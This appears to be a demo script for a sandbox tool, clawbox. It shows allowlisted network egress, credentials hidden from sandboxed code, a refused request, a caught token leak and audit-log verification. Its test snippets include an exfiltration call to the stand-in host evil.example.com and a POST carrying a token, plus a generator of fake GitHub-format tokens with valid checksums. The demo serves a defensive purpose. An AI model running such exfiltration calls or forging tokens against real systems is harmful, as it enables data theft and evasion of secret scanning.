"""What code in a sandbox can do outside: what the grant says, with a key that it never sees."""

from __future__ import annotations

import itertools
import json
import secrets
import subprocess
import sys
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Any

from examples.demo.screen import expect, show, step

if TYPE_CHECKING:
    from clawbox_client import AuditRow, SyncClient

    from examples.demo.api import Api

CLAWBOX = Path(sys.executable).with_name("clawbox")
CREDENTIAL = "demo-api"

SETTINGS = """
[tool_policy]
network_allowlist = [{{ host = "{host}", ports = [{port}] }}]
allowed_credentials = ["{credential}"]

[egress]                              # only because the demo's API is on this machine, with a CA of its own
trusted_networks = ["{host}/32"]
upstream_ca = ["api-ca.pem"]
"""

ALLOWED = """
import clawbox
reply = clawbox.http_request("GET", input + "/me")
print(reply.status, reply.text)
"""
REFUSED = """
import clawbox
try:
    clawbox.http_request("GET", "https://evil.example.com/?all=" + "my-data")
except clawbox.HostError as error:
    print(error)
"""
LEAK = """
import clawbox
try:
    clawbox.http_request("POST", input["url"] + "/notes", body="found this: " + input["token"])
except clawbox.HostError as error:
    print(error)
"""


def settings(home: Path, api: Api) -> None:
    """Let tools reach the API, and use its key there."""
    Path(home, "api-ca.pem").write_text(api.ca_pem)
    with Path(home, "config.toml").open("a") as file:
        file.write(SETTINGS.format(host=api.host, port=api.port, credential=CREDENTIAL))


def allow(client: SyncClient, home: Path, api: Api, environment: dict[str, str]) -> None:
    """Keep the API's key, and say in Python's manifest what its code may reach."""
    with step("An operator lets Python reach one API, and keeps the key for it"):
        show(
            "settings",
            "\n".join(SETTINGS.format(host=api.host, port=api.port, credential=CREDENTIAL).split("\n")[1:4]),
        )
        command = f"creds add --name {CREDENTIAL} --domain {api.host} --port {api.port}"
        show("$ clawbox", f"{command}   (the key is on stdin)")
        subprocess.run(
            [CLAWBOX, *command.split(), "--config", home / "config.toml"],
            env=environment,
            input=api.key,
            text=True,
            check=True,
            stdout=subprocess.DEVNULL,
        )
        manifest: Any = client.get_tool("python").manifest
        manifest |= {
            "network": {"allowlist": [{"host": api.host, "ports": [api.port]}]},
            "credentials": {"available": [CREDENTIAL]},
        }
        client.register_tool(manifest)
        show("manifest", json.dumps({key: manifest[key] for key in ("network", "credentials")}))


def requests(client: SyncClient, api: Api) -> None:
    """An allowed request, a refused one, and a stopped leak."""
    with step("Its code calls the API with a key that it never sees"):
        answer = client.run_python(ALLOWED, input=api.url, credentials=[CREDENTIAL])
        show("code prints", answer.stdout)
        expect("the API was sent its key", holds='"key_is_right": true' in answer.stdout)
        expect(
            "where the API repeated it, the code saw [REDACTED]",
            holds="[REDACTED]" in answer.stdout and api.key not in repr(answer),
        )
    with step("Another host is refused"):
        answer = client.run_python(REFUSED, credentials=[CREDENTIAL])
        show("code prints", answer.stdout)
        expect("it is not in the allowlist", holds="blocked by allowlist" in answer.stdout)
    with step("What looks like a credential does not leave, even for the host that is allowed"):
        token = github_token()
        show("code sends", token)
        answer = client.run_python(LEAK, input={"url": api.url, "token": token}, credentials=[CREDENTIAL])
        show("code prints", answer.stdout)
        expect("none of it arrived at the API", holds="leak" in answer.stdout and not any(api.bodies))


def audit(client: SyncClient, home: Path) -> None:
    """The rows of all that, and whether the log is whole."""
    with step("All three were written down"):
        with client.watch_audit(after_sequence=0, kinds=["egress"], deadline=10) as stream:
            rows = list(itertools.islice(stream, 3))
        for row in rows:
            show(row.decision, describe_egress(row))
        reasons = [row.fields.get("reason", "") for row in rows]
        expect("there is a row for each", holds=reasons == ["", "host_not_allowed", "leak_detected"])
    with step("A log that was tampered with would show it"):
        command = ["audit", "verify", "--config", str(home / "config.toml")]
        verdict = subprocess.run([CLAWBOX, *command], capture_output=True, text=True, check=False)
        show("$ clawbox", " ".join(command))
        show("", verdict.stdout)
        expect("the log is whole", holds=verdict.returncode == 0)


def describe_egress(row: AuditRow) -> str:
    """The more telling part of a row."""
    fields: Any = row.fields
    words = [f"row {row.sequence}: {fields['method']} {fields['scheme']}://{fields['host']}{fields['path']}"]
    words += [f"{name}={fields[name]}" for name in ("reason", "status", "credential") if fields.get(name)]
    words += [f"{one['action']}={one['name']} in the {one['place']}" for one in fields.get("found") or ()]
    return " ".join(words)


def github_token() -> str:
    """Something in the form of GitHub's tokens, checksum included, that nobody was ever given."""
    digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
    body = "".join(secrets.choice(digits) for _ in range(30))
    number, checksum = zlib.crc32(body.encode()), ""
    for _ in range(6):
        number, digit = divmod(number, 62)
        checksum = digits[digit] + checksum
    return f"ghp_{body}{checksum}"
